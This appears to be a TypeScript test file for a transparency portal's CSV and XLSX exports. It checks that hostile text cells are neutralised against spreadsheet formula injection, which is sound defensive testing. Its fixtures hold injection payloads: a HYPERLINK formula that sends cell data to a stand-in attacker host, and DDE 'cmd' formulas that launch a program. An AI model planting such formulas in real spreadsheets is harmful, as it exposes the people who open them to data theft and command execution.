import { parse as lerCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Coluna } from '@alego/catalog';
import { valorCsv, valorXlsx } from '../../gateway/src/exportacao/formatos.js';
import { access } from '../../subgraphs/access/src/index.js';
import { people } from '../../subgraphs/people/src/index.js';
import { transparency } from '../../subgraphs/transparency/src/index.js';
import { entrarComoEquipe, startGatewayHarness, type GatewayHarness } from '../gateway-harness.js';

/**
 * Issue 13, item 13: a text cell an attacker controls (a contract's object, a name on the payroll) must not run as a
 * formula when a journalist opens the CSV or XLSX. Text starting with =, +, -, @, tab or CR gets an apostrophe in
 * front; numbers (a negative amount included) stay numbers.
 */
let harness: GatewayHarness;
let admin: Record<string, string>;

/** The subgraphs trim text, so the leading tab and CR are checked on the writer below; the rest go end to end. */
const HOSTIS = ['=HYPERLINK("http://atacante.exemplo/?d="&A1,"Clique")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

const NEUTRALIZADOS = HOSTIS.map((h) => `'${h.trim()}`);

beforeAll(async () => {
  harness = await startGatewayHarness([transparency, people, access]);
  admin = { authorization: `Bearer ${await entrarComoEquipe(harness, 'admin')}` };
  for (const [i, objeto] of HOSTIS.entries()) {
    const { body } = await harness.graphql(
      'mutation($d: ContratoInput!) { criarContrato(dados: $d) { id } }',
      {
        d: {
          numero: `${900 + i}/2019`,
          ano: 2019,
          objeto,
          fornecedor: objeto,
          cnpj: '11.222.333/0001-81',
          valor: '1234.56',
          dataAssinatura: '2019-03-0' + (i + 1),
          vigenciaInicio: '2019-03-01',
          vigenciaFim: '2019-12-31',
        },
      },
      admin,
    );
    expect(body.errors).toBeUndefined();
  }
  const { body } = await harness.graphql(
    'mutation($d: RemuneracaoInput!) { criarRemuneracao(dados: $d) { id } }',
    {
      d: {
        matricula: '-999',
        nome: '=HYPERLINK("http://atacante.exemplo","Ver")',
        cargo: '@cargo',
        vinculo: 'Efetivo',
        categoria: '+categoria',
        lotacao: 'Diretoria Legislativa',
        ano: 2014,
        mes: 2,
        remuneracaoBasica: '1000.00',
        vantagens: '0.00',
        indenizacoes: '0.00',
        bruto: '1000.00',
        descontos: '0.00',
        liquido: '1000.00',
      },
    },
    admin,
  );
  expect(body.errors).toBeUndefined();
});
afterAll(() => harness?.close());

const FILTRO = 'dataInicio=2019-03-01&dataFim=2019-03-09';

describe('formula injection in exports (issue 13, item 13)', () => {
  it('CSV: hostile text cells start with an apostrophe, amounts stay numbers', async () => {
    const resposta = await fetch(`${harness.base}/api/transparencia/exportar/contratos.csv?${FILTRO}`);
    expect(resposta.status).toBe(200);
    const linhas = lerCsv(Buffer.from(await resposta.arrayBuffer()), { bom: true, delimiter: ';', columns: true, relax_quotes: true }) as Record<string, string>[];
    const hostis = linhas.filter((l) => l.numero?.endsWith('/2019') && Number(l.numero.split('/')[0]) >= 900);
    expect(hostis.map((l) => l.objeto).sort()).toEqual(NEUTRALIZADOS.sort());
    expect(hostis.map((l) => l.fornecedor).sort()).toEqual(NEUTRALIZADOS.sort());
    for (const linha of hostis) expect(linha.valor).toBe('1234,56');
  });

  it('a negative amount or integer is a number, not text to neutralise', () => {
    const coluna = (tipo: Coluna['tipo']): Coluna => ({ campo: 'x', rotulo: 'X', tipo, descricao: '' });
    expect(valorCsv(coluna('dinheiro'), '-12.50')).toBe('-12,50');
    expect(valorCsv(coluna('inteiro'), -3)).toBe('-3');
    expect(valorXlsx(coluna('dinheiro'), '-12.50')).toBe(-12.5);
    expect(valorCsv(coluna('texto'), '-3')).toBe("'-3");
    expect(valorCsv(coluna('texto'), '\t=1+1')).toBe("'\t=1+1");
    expect(valorXlsx(coluna('texto'), '\r=1+1')).toBe("'\r=1+1");
    expect(valorCsv(coluna('texto'), 'a=1')).toBe('a=1');
  });

  it('XLSX (open data): hostile text cells are neutralised, amounts are numeric cells', async () => {
    const resposta = await fetch(`${harness.base}/api/transparencia/exportar/contratos.xlsx?${FILTRO}`);
    expect(resposta.status).toBe(200);
    const livro = new ExcelJS.Workbook();
    await livro.xlsx.load(await resposta.arrayBuffer());
    const planilha = livro.worksheets[0]!;
    const cabecalho = (planilha.getRow(1).values as unknown[]).slice(1) as string[];
    const objeto = cabecalho.indexOf('Objeto') + 1;
    const valor = cabecalho.indexOf('Valor') + 1;
    const objetos: unknown[] = [];
    for (let i = 2; i <= planilha.rowCount; i++) {
      const linha = planilha.getRow(i);
      objetos.push(linha.getCell(objeto).value);
      expect(linha.getCell(objeto).type).toBe(ExcelJS.ValueType.String);
      expect(linha.getCell(valor).value).toBe(1234.56);
    }
    expect(objetos.sort()).toEqual(NEUTRALIZADOS.sort());
  });

  it('XLSX (payroll): hostile names are neutralised, amounts stay numbers', async () => {
    const resposta = await fetch(`${harness.base}/api/transparencia/remuneracoes/export_to_xlsx?ano=2014&mes=2&termo=atacante`);
    expect(resposta.status).toBe(200);
    const livro = new ExcelJS.Workbook();
    await livro.xlsx.load(await resposta.arrayBuffer());
    const planilha = livro.worksheets[0]!;
    const cabecalho = (planilha.getRow(1).values as unknown[]).slice(1) as string[];
    const linha = planilha.getRow(2);
    const celula = (titulo: string) => linha.getCell(cabecalho.indexOf(titulo) + 1).value;
    expect(planilha.rowCount).toBe(2);
    expect(celula('Nome')).toBe('\'=HYPERLINK("http://atacante.exemplo","Ver")');
    expect(celula('Matrícula')).toBe("'-999");
    expect(celula('Cargo')).toBe("'@cargo");
    expect(celula('Categoria')).toBe("'+categoria");
    expect(celula('Líquido')).toBe(1000);
    expect(celula('Ano')).toBe(2014);
  });
});
